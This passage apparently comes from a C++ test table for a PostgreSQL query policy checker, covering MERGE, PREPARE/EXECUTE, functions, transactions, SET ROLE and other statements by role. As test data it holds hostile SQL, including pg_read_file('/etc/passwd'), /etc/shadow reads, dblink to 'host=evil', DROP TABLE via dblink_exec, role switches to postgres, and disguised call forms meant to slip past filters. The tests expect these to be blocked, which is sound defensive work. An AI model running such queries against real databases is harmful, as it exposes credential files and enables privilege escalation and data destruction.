    {.name = "MergeIsAWrite", .who = kAgent, .sql = "MERGE INTO public.t USING public.s ON t.id = s.id WHEN MATCHED THEN UPDATE SET v = s.v",
     .kind = K::kMerge, .cls = C::kWrite, .rels = "public.t+|public.s", .out = kDeny, .rule = kDefaultDeny},
    {.name = "MergeIsAllowedForAWriter", .who = kWriter, .sql = "MERGE INTO public.t USING public.s ON t.id = s.id WHEN MATCHED THEN UPDATE SET v = s.v",
     .kind = K::kMerge, .cls = C::kWrite, .rels = "public.t+|public.s", .out = kAllow, .rule = kWriterRule},
    {.name = "MergeFromASecretSourceIsDenied", .who = kWriter,
     .sql = "MERGE INTO public.t USING secret.s ON t.id = s.id WHEN NOT MATCHED THEN INSERT VALUES (s.id)",
     .kind = K::kMerge, .cls = C::kWrite, .rels = "public.t+|secret.s", .out = kDeny, .rule = kDefaultDeny},
    {.name = "MergeIntoASecretTargetIsDenied", .who = kWriter,
     .sql = "MERGE INTO secret.t USING public.s ON t.id = s.id WHEN MATCHED THEN DELETE",
     .kind = K::kMerge, .cls = C::kWrite, .rels = "secret.t+|public.s", .out = kDeny, .rule = kDefaultDeny},
    {.name = "MergeSourceSubqueryReadsItsTable", .who = kWriter,
     .sql = "MERGE INTO public.t USING (SELECT * FROM secret.s) AS s ON t.id = s.id WHEN MATCHED THEN DO NOTHING",
     .kind = K::kMerge, .cls = C::kWrite, .rels = "public.t+|secret.s", .out = kDeny, .rule = kDefaultDeny},
    {.name = "MergeActionCallingAFileFunctionIsBlocked", .who = kWriter,
     .sql = "MERGE INTO public.t USING public.s ON t.id = s.id WHEN MATCHED THEN UPDATE SET v = pg_read_file('/etc/passwd')",
     .kind = K::kMerge, .cls = C::kWrite, .rels = "public.t+|public.s", .fns = "pg_read_file", .out = kDeny, .rule = kNoFiles},

    // ---- multi-statement strings ----
    {.name = "OneDeniedStatementDeniesTheString", .who = kAgent, .sql = "SELECT * FROM public.t; SELECT * FROM secret.t",
     .kind = K::kSelect, .cls = C::kRead, .rels = "public.t|secret.t", .out = kDeny, .rule = kDefaultDeny},
    {.name = "DropThirdOfThreeDeniesTheString", .who = kDba, .sql = "SELECT 1; SELECT 2; DROP TABLE public.t",
     .kind = K::kSelect, .cls = C::kDdl, .rels = "public.t+", .out = kDeny, .rule = kNoDestructive},
    {.name = "WriteAfterReadMakesTheStringAWrite", .who = kAgent, .sql = "SELECT 1; INSERT INTO public.t VALUES (1)",
     .kind = K::kSelect, .cls = C::kWrite, .rels = "public.t+", .out = kDeny, .rule = kDefaultDeny},
    {.name = "AllowedStatementsTogetherAreAllowed", .who = kWriter, .sql = "BEGIN; UPDATE public.t SET v = 1 WHERE id = 1; COMMIT",
     .kind = K::kTransaction, .cls = C::kWrite, .rels = "public.t+", .out = kAllow, .rule = kWriterRule},
    {.name = "TransactionAroundADropIsStillADrop", .who = kDba, .sql = "BEGIN; DROP TABLE public.t; COMMIT",
     .kind = K::kTransaction, .cls = C::kDdl, .rels = "public.t+", .out = kDeny, .rule = kNoDestructive},
    {.name = "SearchPathSetEarlierInTheStringAppliesLater", .who = kAgent, .sql = "SET search_path = secret; SELECT * FROM t",
     .kind = K::kSet, .cls = C::kRead, .rels = "t", .path = SP::kSet, .set_path = "secret", .out = kDeny, .rule = kDefaultDeny},
    {.name = "SetConfigSearchPathEarlierInTheStringAppliesLater", .who = kAgent,
     .sql = "SELECT set_config('search_path', 'secret', false); SELECT * FROM t",
     .kind = K::kSelect, .cls = C::kRead, .rels = "t", .fns = "set_config", .path = SP::kSet, .set_path = "secret", .out = kDeny, .rule = kDefaultDeny},
    {.name = "UnreadableSearchPathEarlierInTheStringAppliesLater", .who = kAnalyst,
     .sql = "SELECT set_config('search_path', current_user, false); SELECT * FROM t",
     .kind = K::kSelect, .cls = C::kRead, .rels = "t", .fns = "set_config", .path = SP::kDynamic, .out = kDeny, .rule = kDefaultDeny},
    {.name = "ResetLaterInTheStringKeepsTheEarlierPath", .who = kAgent, .sql = "SET search_path = secret; RESET search_path; SELECT * FROM t",
     .kind = K::kSet, .cls = C::kRead, .rels = "t", .path = SP::kSet, .set_path = "secret", .out = kDeny, .rule = kDefaultDeny},
    {.name = "SearchPathSetToPublicKeepsTheTableAllowed", .who = kAgent, .sql = "SET search_path = public; SELECT * FROM t",
     .kind = K::kSet, .cls = C::kRead, .rels = "t", .path = SP::kSet, .set_path = "public", .out = kAllow, .rule = kAgentRule},
    {.name = "DollarUserInThePathIsTheSessionUsersSchema", .who = kAgent, .sql = R"(SET search_path = "$user", public; SELECT * FROM t)",
     .kind = K::kSet, .cls = C::kRead, .rels = "t", .path = SP::kSet, .set_path = "$user|public", .out = kDeny, .rule = kDefaultDeny},
    {.name = "PrepareThenExecuteInOneString", .who = kWriter, .sql = "PREPARE up(int) AS UPDATE public.t SET v = 0 WHERE id = $1; EXECUTE up(1)",
     .kind = K::kPrepare, .cls = C::kWrite, .rels = "public.t+", .out = kAllow, .rule = kWriterRule},
    {.name = "ExecuteOfAPrepareInTheSameStringIsDecidedAsPrepared", .who = kAnalyst,
     .sql = "PREPARE q AS SELECT * FROM t; SET search_path = secret; EXECUTE q",
     .kind = K::kPrepare, .cls = C::kRead, .rels = "t", .path = SP::kSet, .set_path = "secret", .out = kDeny, .rule = kDefaultDeny},

    // ---- PREPARE and EXECUTE ----
    {.name = "PrepareSelectIsARead", .who = kAnalyst, .sql = "PREPARE q AS SELECT * FROM public.t WHERE id = $1",
     .kind = K::kPrepare, .cls = C::kRead, .rels = "public.t", .out = kAllow, .rule = kAnalystRule},
    {.name = "PrepareDeleteIsAWrite", .who = kAnalyst, .sql = "PREPARE q AS DELETE FROM public.t WHERE id = $1",
     .kind = K::kPrepare, .cls = C::kWrite, .rels = "public.t+", .out = kDeny, .rule = kDefaultDeny},
    {.name = "PrepareUnboundedDeleteIsUnbounded", .who = kDba, .sql = "PREPARE q AS DELETE FROM public.t",
     .kind = K::kPrepare, .cls = C::kWrite, .rels = "public.t+", .flags = kNoWhere, .out = kDeny, .rule = kNoUnbounded},
    {.name = "PrepareOfASecretTableIsDenied", .who = kAnalyst, .sql = "PREPARE q AS SELECT * FROM secret.t",
     .kind = K::kPrepare, .cls = C::kRead, .rels = "secret.t", .out = kDeny, .rule = kDefaultDeny},
    {.name = "ExecuteInheritsAPreparedRead", .who = kAnalyst, .sql = "EXECUTE sel(1)",
     .kind = K::kExecute, .cls = C::kSession, .out = kAllow, .rule = kAnalystRule},
    {.name = "ExecuteInheritsAPreparedWrite", .who = kAnalyst, .sql = "EXECUTE del(1)",
     .kind = K::kExecute, .cls = C::kSession, .out = kDeny, .rule = kDefaultDeny},
    {.name = "ExecuteOfAPreparedWriteIsAllowedForAWriter", .who = kWriter, .sql = "EXECUTE del(1)",
     .kind = K::kExecute, .cls = C::kSession, .out = kAllow, .rule = kWriterRule},
    {.name = "ExecuteOfAPreparedUnboundedDeleteIsUnbounded", .who = kDba, .sql = "EXECUTE wipe",
     .kind = K::kExecute, .cls = C::kSession, .out = kDeny, .rule = kNoUnbounded},
    {.name = "ExecuteOfAPreparedSecretReadIsDenied", .who = kAnalyst, .sql = "EXECUTE peek",
     .kind = K::kExecute, .cls = C::kSession, .out = kDeny, .rule = kDefaultDeny},
    {.name = "ExecuteOfAPreparedFileReadIsBlocked", .who = kDba, .sql = "EXECUTE leak",
     .kind = K::kExecute, .cls = C::kSession, .out = kDeny, .rule = kNoFiles},
    {.name = "ExecuteOfAnUnknownNameIsUnanalyzable", .who = kDba, .sql = "EXECUTE never_prepared",
     .kind = K::kExecute, .cls = C::kSession, .out = kUnanalyzable, .rule = kUnanalyzableRule},
    {.name = "ExecuteArgumentsAreAnalyzed", .who = kDba, .sql = "EXECUTE sel(length(pg_read_file('/etc/passwd')))",
     .kind = K::kExecute, .cls = C::kSession, .fns = "length|pg_read_file", .out = kDeny, .rule = kNoFiles},
    {.name = "ExecutePreparedUnqualifiedUnderTwoPathsIsDenied", .who = kAnalyst, .sql = "EXECUTE unq",
     .kind = K::kExecute, .cls = C::kSession, .out = kDeny, .rule = kDefaultDeny, .sess = Sess::kTwoPaths},
    {.name = "AgentsMayNotExecute", .who = kAgent, .sql = "EXECUTE sel(1)",
     .kind = K::kExecute, .cls = C::kSession, .out = kDeny, .rule = kNoDynamic},
    {.name = "ExplainAnalyzeExecuteIsStillAnExecute", .who = kAgent, .sql = "EXPLAIN ANALYZE EXECUTE sel(1)",
     .kind = K::kExplainAnalyze, .cls = C::kRead, .out = kDeny, .rule = kNoDynamic},
    {.name = "ExplainAnalyzeExecuteOfADeleteIsAWrite", .who = kAnalyst, .sql = "EXPLAIN ANALYZE EXECUTE del(1)",
     .kind = K::kExplainAnalyze, .cls = C::kRead, .out = kDeny, .rule = kDefaultDeny},
    {.name = "CreateTableAsExecuteRunsThePrepared", .who = kDba, .sql = "CREATE TABLE public.copy AS EXECUTE wipe",
     .kind = K::kCreate, .cls = C::kDdl, .rels = "public.copy+", .flags = kCtas, .out = kDeny, .rule = kNoUnbounded},
    {.name = "DeallocateIsASessionStatement", .who = kAgent, .sql = "DEALLOCATE sel",
     .kind = K::kDeallocate, .cls = C::kSession, .out = kAllow, .rule = kSession},
    {.name = "DeallocateAllIsASessionStatement", .who = kAgent, .sql = "DEALLOCATE ALL",
     .kind = K::kDeallocate, .cls = C::kSession, .out = kAllow, .rule = kSession},

    // ---- functions ----
    {.name = "PgReadFileIsBlocked", .who = kAgent, .sql = "SELECT pg_read_file('/etc/passwd')",
     .kind = K::kSelect, .cls = C::kRead, .fns = "pg_read_file", .out = kDeny, .rule = kNoFiles},
    {.name = "QualifiedPgReadFileIsBlocked", .who = kDba, .sql = "SELECT pg_catalog.pg_read_file('/etc/passwd')",
     .kind = K::kSelect, .cls = C::kRead, .fns = "pg_catalog.pg_read_file", .out = kDeny, .rule = kNoFiles},
    {.name = "PgReadBinaryFileIsBlocked", .who = kDba, .sql = "SELECT pg_read_binary_file('/etc/shadow')",
     .kind = K::kSelect, .cls = C::kRead, .fns = "pg_read_binary_file", .out = kDeny, .rule = kNoFiles},
    {.name = "PgLsDirInFromIsBlocked", .who = kDba, .sql = "SELECT * FROM pg_ls_dir('/')",
     .kind = K::kSelect, .cls = C::kRead, .fns = "pg_ls_dir", .out = kDeny, .rule = kNoFiles},
    {.name = "LoExportIsBlocked", .who = kDba, .sql = "SELECT lo_export(16400, '/tmp/out')",
     .kind = K::kSelect, .cls = C::kWrite, .fns = "lo_export", .out = kDeny, .rule = kNoFiles},
    {.name = "LoImportIsBlocked", .who = kDba, .sql = "SELECT lo_import('/etc/passwd')",
     .kind = K::kSelect, .cls = C::kWrite, .fns = "lo_import", .out = kDeny, .rule = kNoFiles},
    {.name = "DblinkIsBlocked", .who = kDba, .sql = "SELECT * FROM dblink('dbname=postgres', 'DELETE FROM t') AS x(a int)",
     .kind = K::kSelect, .cls = C::kAdmin, .fns = "dblink", .flags = kDynSql, .out = kDeny, .rule = kNoFiles},
    {.name = "DblinkConnectIsBlocked", .who = kDba, .sql = "SELECT dblink_connect('host=evil')",
     .kind = K::kSelect, .cls = C::kAdmin, .fns = "dblink_connect", .flags = kDynSql, .out = kDeny, .rule = kNoFiles},
    {.name = "SchemaQualifiedDblinkIsBlocked", .who = kDba, .sql = "SELECT ext.dblink_exec('DROP TABLE t')",
     .kind = K::kSelect, .cls = C::kAdmin, .fns = "ext.dblink_exec", .flags = kDynSql, .out = kDeny, .rule = kNoFiles},
    {.name = "FileFunctionInWhereSubqueryIsBlocked", .who = kAgent, .sql = "SELECT * FROM public.t WHERE v = (SELECT pg_read_file('/etc/passwd'))",
     .kind = K::kSelect, .cls = C::kRead, .rels = "public.t", .fns = "pg_read_file", .out = kDeny, .rule = kNoFiles},
    {.name = "FileFunctionInSelectListSubqueryIsBlocked", .who = kAgent, .sql = "SELECT (SELECT pg_ls_dir('/') LIMIT 1) FROM public.t",
     .kind = K::kSelect, .cls = C::kRead, .rels = "public.t", .fns = "pg_ls_dir", .out = kDeny, .rule = kNoFiles},
    {.name = "FileFunctionInOrderByIsBlocked", .who = kAgent, .sql = "SELECT * FROM public.t ORDER BY pg_read_file('/etc/passwd')",
     .kind = K::kSelect, .cls = C::kRead, .rels = "public.t", .fns = "pg_read_file", .out = kDeny, .rule = kNoFiles},
    {.name = "FileFunctionInOrderBySubqueryIsBlocked", .who = kAgent, .sql = "SELECT * FROM public.t ORDER BY (SELECT pg_read_file('/etc/passwd'))",
     .kind = K::kSelect, .cls = C::kRead, .rels = "public.t", .fns = "pg_read_file", .out = kDeny, .rule = kNoFiles},
    {.name = "FileFunctionInADefaultIsBlocked", .who = kDba, .sql = "CREATE TABLE public.z (c text DEFAULT pg_read_file('/etc/passwd'))",
     .kind = K::kCreate, .cls = C::kDdl, .rels = "public.z+", .fns = "pg_read_file", .out = kDeny, .rule = kNoFiles},
    {.name = "FileFunctionInACheckConstraintIsBlocked", .who = kDba, .sql = "CREATE TABLE public.z (c text CHECK (c <> pg_read_file('/etc/passwd')))",
     .kind = K::kCreate, .cls = C::kDdl, .rels = "public.z+", .fns = "pg_read_file", .out = kDeny, .rule = kNoFiles},
    {.name = "FileFunctionInAnAlteredDefaultIsBlocked", .who = kDba, .sql = "ALTER TABLE public.t ALTER COLUMN v SET DEFAULT pg_read_file('/etc/passwd')",
     .kind = K::kAlter, .cls = C::kDdl, .rels = "public.t+", .fns = "pg_read_file", .out = kDeny, .rule = kNoFiles},
    {.name = "FileFunctionInAnIndexExpressionIsBlocked", .who = kDba, .sql = "CREATE INDEX ON public.t ((pg_read_file(v)))",
     .kind = K::kCreate, .cls = C::kDdl, .rels = "public.t+", .fns = "pg_read_file", .out = kDeny, .rule = kNoFiles},
    {.name = "FileFunctionInAGeneratedColumnIsBlocked", .who = kDba,
     .sql = "CREATE TABLE public.z (a text, b text GENERATED ALWAYS AS (pg_read_file(a)) STORED)",
     .kind = K::kCreate, .cls = C::kDdl, .rels = "public.z+", .fns = "pg_read_file", .out = kDeny, .rule = kNoFiles},
    {.name = "FileFunctionInReturningIsBlocked", .who = kWriter, .sql = "INSERT INTO public.t (v) VALUES ('x') RETURNING pg_read_file('/etc/passwd')",
     .kind = K::kInsert, .cls = C::kWrite, .rels = "public.t+", .fns = "pg_read_file", .out = kDeny, .rule = kNoFiles},
    {.name = "FileFunctionInLateralIsBlocked", .who = kAgent, .sql = "SELECT * FROM public.t, LATERAL pg_ls_dir('/') AS f",
     .kind = K::kSelect, .cls = C::kRead, .rels = "public.t", .fns = "pg_ls_dir", .out = kDeny, .rule = kNoFiles},
    {.name = "FileFunctionCalledAsAColumnOfAFunctionItemIsBlocked", .who = kAgent,
     .sql = "SELECT f.pg_read_file FROM unnest(ARRAY['/etc/passwd']) AS f",
     .kind = K::kSelect, .cls = C::kRead, .fns = "unnest|pg_read_file", .out = kDeny, .rule = kNoFiles},
    {.name = "FileFunctionCalledAsAFieldOfAnExpressionIsBlocked", .who = kAgent, .sql = "SELECT ('/etc/passwd'::text).pg_read_file",
     .kind = K::kSelect, .cls = C::kRead, .fns = "pg_read_file", .out = kDeny, .rule = kNoFiles},
    {.name = "FileFunctionCalledAsAColumnOfAnUnaliasedItemIsBlocked", .who = kAgent, .sql = "SELECT unnest.pg_ls_dir FROM unnest(ARRAY['/'])",
     .kind = K::kSelect, .cls = C::kRead, .fns = "unnest|pg_ls_dir", .out = kDeny, .rule = kNoFiles},
    {.name = "DblinkCalledAsAColumnIsDynamicSql", .who = kDba, .sql = "SELECT q.dblink_exec FROM unnest(ARRAY['DROP TABLE t']) q",
     .kind = K::kSelect, .cls = C::kAdmin, .fns = "unnest|dblink_exec", .flags = kDynSql, .out = kDeny, .rule = kNoFiles},
    {.name = "DeclaredColumnOfAFunctionItemIsAColumn", .who = kAgent, .sql = "SELECT g.x FROM generate_series(1, 3) AS g(x)",
     .kind = K::kSelect, .cls = C::kRead, .fns = "generate_series", .out = kAllow, .rule = kAgentRule},
    {.name = "ScalarFunctionItemValueIsAColumn", .who = kAgent, .sql = "SELECT g.g FROM generate_series(1, 3) g",
     .kind = K::kSelect, .cls = C::kRead, .fns = "generate_series", .out = kAllow, .rule = kAgentRule},
    {.name = "SetConfigSearchPathIsASearchPathChange", .who = kAgent, .sql = "SELECT set_config('search_path', 'secret, public', false)",
     .kind = K::kSelect, .cls = C::kRead, .fns = "set_config", .path = SP::kSet, .set_path = "secret|public", .out = kAllow, .rule = kAgentRule},
    {.name = "SetConfigWithANonConstantNameIsDynamic", .who = kAgent, .sql = "SELECT set_config(name, 'x', false) FROM public.settings",
     .kind = K::kSelect, .cls = C::kAdmin, .rels = "public.settings", .fns = "set_config", .path = SP::kDynamic, .out = kDeny, .rule = kDefaultDeny},
    {.name = "SetConfigRoleIsASetRole", .who = kAgent, .sql = "SELECT set_config('role', 'pg_read_server_files', false)",
     .kind = K::kSelect, .cls = C::kAdmin, .fns = "set_config", .out = kDeny, .rule = kDefaultDeny},
    {.name = "SetConfigRoleIsAllowedForTheDba", .who = kDba, .sql = "SELECT set_config('role', 'app_owner', false)",
     .kind = K::kSelect, .cls = C::kAdmin, .fns = "set_config", .out = kAllow, .rule = kDbaRule},
    {.name = "SetConfigSessionAuthorizationIsASetRole", .who = kWriter, .sql = "SELECT pg_catalog.set_config('session_authorization', 'postgres', false)",
     .kind = K::kSelect, .cls = C::kAdmin, .fns = "pg_catalog.set_config", .out = kDeny, .rule = kDefaultDeny},
    {.name = "SetConfigOfAnotherSettingIsARead", .who = kAgent, .sql = "SELECT set_config('application_name', 'report', false)",
     .kind = K::kSelect, .cls = C::kRead, .fns = "set_config", .out = kAllow, .rule = kAgentRule},
    {.name = "SetConfigInAnotherSchemaIsNotTheBuiltin", .who = kAgent, .sql = "SELECT public.set_config('role', 'x', false)",
     .kind = K::kSelect, .cls = C::kRead, .fns = "public.set_config", .out = kAllow, .rule = kAgentRule},
    {.name = "TsRewriteRunsSqlGivenAsAValue", .who = kAgent, .sql = "SELECT ts_rewrite('a'::tsquery, 'SELECT a, b FROM secret.t')",
     .kind = K::kSelect, .cls = C::kAdmin, .fns = "ts_rewrite", .flags = kDynSql, .out = kDeny, .rule = kDefaultDeny},
    {.name = "QueryToXmlRunsSqlGivenAsAValue", .who = kAnalyst, .sql = "SELECT query_to_xml('SELECT * FROM secret.t', true, false, '')",
     .kind = K::kSelect, .cls = C::kAdmin, .fns = "query_to_xml", .flags = kDynSql, .out = kDeny, .rule = kDefaultDeny},
    {.name = "NextvalIsAWrite", .who = kAgent, .sql = "SELECT nextval('public.s')",
     .kind = K::kSelect, .cls = C::kWrite, .fns = "nextval", .out = kDeny, .rule = kDefaultDeny},
    {.name = "TerminateBackendIsAdmin", .who = kWriter, .sql = "SELECT pg_terminate_backend(pid) FROM pg_stat_activity",
     .kind = K::kSelect, .cls = C::kAdmin, .rels = "pg_stat_activity", .fns = "pg_terminate_backend", .out = kDeny, .rule = kDefaultDeny},
    {.name = "NotifyFunctionIsAWrite", .who = kAgent, .sql = "SELECT pg_notify('ch', 'x')",
     .kind = K::kSelect, .cls = C::kWrite, .fns = "pg_notify", .out = kDeny, .rule = kDefaultDeny},

    // ---- SELECT INTO and CREATE TABLE AS ----
    {.name = "SelectIntoCreatesATable", .who = kWriter, .sql = "SELECT * INTO public.n FROM public.t",
     .kind = K::kCreate, .cls = C::kDdl, .rels = "public.n+|public.t", .flags = kCtas, .out = kDeny, .rule = kDefaultDeny},
    {.name = "SelectIntoTempIsStillACreate", .who = kWriter, .sql = "SELECT * INTO TEMP n FROM public.t",
     .kind = K::kCreate, .cls = C::kDdl, .rels = "n+|public.t", .flags = kCtas, .out = kDeny, .rule = kDefaultDeny},
    {.name = "CreateTableAsIsAllowedForTheDba", .who = kDba, .sql = "CREATE TABLE public.n AS SELECT * FROM public.t",
     .kind = K::kCreate, .cls = C::kDdl, .rels = "public.n+|public.t", .flags = kCtas, .out = kAllow, .rule = kDbaRule},
    {.name = "CreateTableAsWithNoDataIsStillACreate", .who = kWriter, .sql = "CREATE TABLE public.n AS SELECT * FROM public.t WITH NO DATA",
     .kind = K::kCreate, .cls = C::kDdl, .rels = "public.n+|public.t", .flags = kCtas, .out = kDeny, .rule = kDefaultDeny},
    {.name = "CreateMaterializedViewIsACreate", .who = kWriter, .sql = "CREATE MATERIALIZED VIEW public.mv AS SELECT * FROM public.t",
     .kind = K::kCreate, .cls = C::kDdl, .rels = "public.mv+|public.t", .flags = kCtas, .out = kDeny, .rule = kDefaultDeny},

    // ---- DO, CALL, CREATE FUNCTION ----
    {.name = "DoIsAdmin", .who = kDba, .sql = "DO $$ BEGIN DELETE FROM public.t; END $$",
     .kind = K::kDo, .cls = C::kAdmin, .out = kAllow, .rule = kDbaRule},
    {.name = "DoBodyIsOpaqueSoReadersMayNot", .who = kAnalyst, .sql = "DO $$ BEGIN PERFORM 1; END $$",
     .kind = K::kDo, .cls = C::kAdmin, .out = kDeny, .rule = kDefaultDeny},
    {.name = "AgentsMayNotDo", .who = kAgent, .sql = "DO LANGUAGE plpgsql $body$ BEGIN NULL; END $body$",
     .kind = K::kDo, .cls = C::kAdmin, .out = kDeny, .rule = kNoDynamic},
    {.name = "CallIsAdmin", .who = kDba, .sql = "CALL public.refresh_all()",
     .kind = K::kCall, .cls = C::kAdmin, .fns = "public.refresh_all", .out = kAllow, .rule = kDbaRule},
    {.name = "AgentsMayNotCall", .who = kAgent, .sql = "CALL p()",
     .kind = K::kCall, .cls = C::kAdmin, .fns = "p", .out = kDeny, .rule = kNoDynamic},
    {.name = "CallArgumentsAreAnalyzed", .who = kDba, .sql = "CALL p(pg_read_file('/etc/passwd'))",
     .kind = K::kCall, .cls = C::kAdmin, .fns = "p|pg_read_file", .out = kDeny, .rule = kNoFiles},
    {.name = "CreateFunctionBodyIsOpaque", .who = kDba, .sql = "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS $$ DELETE FROM public.t; SELECT 1 $$",
     .kind = K::kCreateFunction, .cls = C::kDdl, .out = kAllow, .rule = kDbaRule},
    {.name = "CreateFunctionBeginAtomicBodyIsOpaque", .who = kDba,
     .sql = "CREATE FUNCTION f() RETURNS int LANGUAGE sql BEGIN ATOMIC DELETE FROM public.t; SELECT 1; END",
     .kind = K::kCreateFunction, .cls = C::kDdl, .out = kAllow, .rule = kDbaRule},
    {.name = "CreateProcedureIsACreateFunction", .who = kDba, .sql = "CREATE PROCEDURE p() LANGUAGE plpgsql AS $$ BEGIN DROP TABLE public.t; END $$",
     .kind = K::kCreateFunction, .cls = C::kDdl, .out = kAllow, .rule = kDbaRule},
    {.name = "AgentsMayNotCreateFunctions", .who = kAgent, .sql = "CREATE OR REPLACE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'",
     .kind = K::kCreateFunction, .cls = C::kDdl, .out = kDeny, .rule = kNoDynamic},
    {.name = "WritersMayNotCreateFunctions", .who = kWriter, .sql = "CREATE FUNCTION f() RETURNS int LANGUAGE sql RETURN 1",
     .kind = K::kCreateFunction, .cls = C::kDdl, .out = kDeny, .rule = kDefaultDeny},

    // ---- transaction control: session statements, always allowed ----
    {.name = "BeginIsASessionStatement", .who = kAgent, .sql = "BEGIN",
     .kind = K::kTransaction, .cls = C::kSession, .out = kAllow, .rule = kSession},
    {.name = "BeginReadWriteIsASessionStatement", .who = kAgent, .sql = "BEGIN ISOLATION LEVEL SERIALIZABLE READ WRITE",
     .kind = K::kTransaction, .cls = C::kSession, .out = kAllow, .rule = kSession},
    {.name = "StartTransactionIsASessionStatement", .who = kAgent, .sql = "START TRANSACTION READ ONLY",
     .kind = K::kTransaction, .cls = C::kSession, .out = kAllow, .rule = kSession},
    {.name = "CommitIsASessionStatement", .who = kAgent, .sql = "COMMIT",
     .kind = K::kTransaction, .cls = C::kSession, .out = kAllow, .rule = kSession},
    {.name = "EndIsASessionStatement", .who = kAgent, .sql = "END",
     .kind = K::kTransaction, .cls = C::kSession, .out = kAllow, .rule = kSession},
    {.name = "RollbackIsASessionStatement", .who = kAgent, .sql = "ROLLBACK",
     .kind = K::kTransaction, .cls = C::kSession, .out = kAllow, .rule = kSession},
    {.name = "AbortIsASessionStatement", .who = kAgent, .sql = "ABORT",
     .kind = K::kTransaction, .cls = C::kSession, .out = kAllow, .rule = kSession},
    {.name = "SavepointIsASessionStatement", .who = kAgent, .sql = "SAVEPOINT s1",
     .kind = K::kTransaction, .cls = C::kSession, .out = kAllow, .rule = kSession},
    {.name = "ReleaseSavepointIsASessionStatement", .who = kAgent, .sql = "RELEASE SAVEPOINT s1",
     .kind = K::kTransaction, .cls = C::kSession, .out = kAllow, .rule = kSession},
    {.name = "RollbackToSavepointIsASessionStatement", .who = kAgent, .sql = "ROLLBACK TO SAVEPOINT s1",
     .kind = K::kTransaction, .cls = C::kSession, .out = kAllow, .rule = kSession},
    {.name = "SetTransactionIsASessionStatement", .who = kAgent, .sql = "SET TRANSACTION ISOLATION LEVEL REPEATABLE READ",
     .kind = K::kTransaction, .cls = C::kSession, .out = kAllow, .rule = kSession},
    {.name = "SetSessionCharacteristicsIsASessionStatement", .who = kAgent, .sql = "SET SESSION CHARACTERISTICS AS TRANSACTION READ ONLY",
     .kind = K::kTransaction, .cls = C::kSession, .out = kAllow, .rule = kSession},
    {.name = "SetConstraintsIsASessionStatement", .who = kAgent, .sql = "SET CONSTRAINTS ALL DEFERRED",
     .kind = K::kTransaction, .cls = C::kSession, .out = kAllow, .rule = kSession},
    {.name = "PrepareTransactionIsASessionStatement", .who = kAgent, .sql = "PREPARE TRANSACTION 'tx1'",
     .kind = K::kTransaction, .cls = C::kSession, .out = kAllow, .rule = kSession},
    {.name = "CommitPreparedCommitsAnotherSessionsWrites", .who = kAgent, .sql = "COMMIT PREPARED 'tx1'",
     .kind = K::kTransaction, .cls = C::kWrite, .out = kDeny, .rule = kDefaultDeny},
    {.name = "RollbackPreparedDiscardsAnotherSessionsWrites", .who = kAgent, .sql = "ROLLBACK PREPARED 'tx1'",
     .kind = K::kTransaction, .cls = C::kWrite, .out = kDeny, .rule = kDefaultDeny},
    {.name = "CommitPreparedIsAllowedForAWriter", .who = kWriter, .sql = "COMMIT PREPARED 'tx1'",
     .kind = K::kTransaction, .cls = C::kWrite, .out = kAllow, .rule = kWriterRule},

    // ---- SET, RESET, SHOW ----
    {.name = "SetIsASessionStatement", .who = kAgent, .sql = "SET work_mem = '64MB'",
     .kind = K::kSet, .cls = C::kSession, .out = kAllow, .rule = kSession},
    {.name = "SetLocalIsASessionStatement", .who = kAgent, .sql = "SET LOCAL statement_timeout = '5s'",
     .kind = K::kSet, .cls = C::kSession, .out = kAllow, .rule = kSession},
    {.name = "SetTimeZoneIsASessionStatement", .who = kAgent, .sql = "SET TIME ZONE 'UTC'",
     .kind = K::kSet, .cls = C::kSession, .out = kAllow, .rule = kSession},
    {.name = "ResetIsASessionStatement", .who = kAgent, .sql = "RESET work_mem",
     .kind = K::kSet, .cls = C::kSession, .out = kAllow, .rule = kSession},
    {.name = "ResetAllResetsTheSearchPath", .who = kAgent, .sql = "RESET ALL",
     .kind = K::kSet, .cls = C::kSession, .path = SP::kReset, .out = kAllow, .rule = kSession},
    {.name = "SetSearchPathIsASearchPathChange", .who = kAgent, .sql = "SET search_path TO secret, public",
     .kind = K::kSet, .cls = C::kSession, .path = SP::kSet, .set_path = "secret|public", .out = kAllow, .rule = kSession},
    {.name = "SetSearchPathToDefaultIsAReset", .who = kAgent, .sql = "SET search_path TO DEFAULT",
     .kind = K::kSet, .cls = C::kSession, .path = SP::kReset, .out = kAllow, .rule = kSession},
    {.name = "ResetSearchPathIsAReset", .who = kAgent, .sql = "RESET search_path",
     .kind = K::kSet, .cls = C::kSession, .path = SP::kReset, .out = kAllow, .rule = kSession},
    {.name = "DiscardAllResetsTheSearchPath", .who = kAgent, .sql = "DISCARD ALL",
     .kind = K::kDiscard, .cls = C::kSession, .path = SP::kReset, .out = kAllow, .rule = kSession},
    {.name = "ShowIsARead", .who = kAgent, .sql = "SHOW server_version",
     .kind = K::kShow, .cls = C::kRead, .out = kAllow, .rule = kAgentRule},
    {.name = "ShowAllIsARead", .who = kAgent, .sql = "SHOW ALL",
     .kind = K::kShow, .cls = C::kRead, .out = kAllow, .rule = kAgentRule},
    {.name = "ShowSearchPathIsARead", .who = kAgent, .sql = "SHOW search_path",
     .kind = K::kShow, .cls = C::kRead, .out = kAllow, .rule = kAgentRule},

    // ---- SET ROLE ----
    {.name = "SetRoleIsAdmin", .who = kAgent, .sql = "SET ROLE postgres",
     .kind = K::kSetRole, .cls = C::kAdmin, .out = kDeny, .rule = kDefaultDeny},
    {.name = "SetLocalRoleIsAdmin", .who = kWriter, .sql = "SET LOCAL ROLE app_owner",
     .kind = K::kSetRole, .cls = C::kAdmin, .out = kDeny, .rule = kDefaultDeny},
    {.name = "SetSessionAuthorizationIsAdmin", .who = kWriter, .sql = "SET SESSION AUTHORIZATION postgres",
     .kind = K::kSetRole, .cls = C::kAdmin, .out = kDeny, .rule = kDefaultDeny},
    {.name = "ResetRoleIsASetRole", .who = kAgent, .sql = "RESET ROLE",
     .kind = K::kSetRole, .cls = C::kAdmin, .out = kDeny, .rule = kDefaultDeny},
    {.name = "SetRoleNoneIsASetRole", .who = kAgent, .sql = "SET ROLE NONE",
     .kind = K::kSetRole, .cls = C::kAdmin, .out = kDeny, .rule = kDefaultDeny},
    {.name = "SetRoleIsAllowedForTheDba", .who = kDba, .sql = "SET ROLE app_owner",
     .kind = K::kSetRole, .cls = C::kAdmin, .out = kAllow, .rule = kDbaRule},

    // ---- GRANT and REVOKE ----
    {.name = "GrantIsAdmin", .who = kDba, .sql = "GRANT SELECT ON public.t TO analyst",
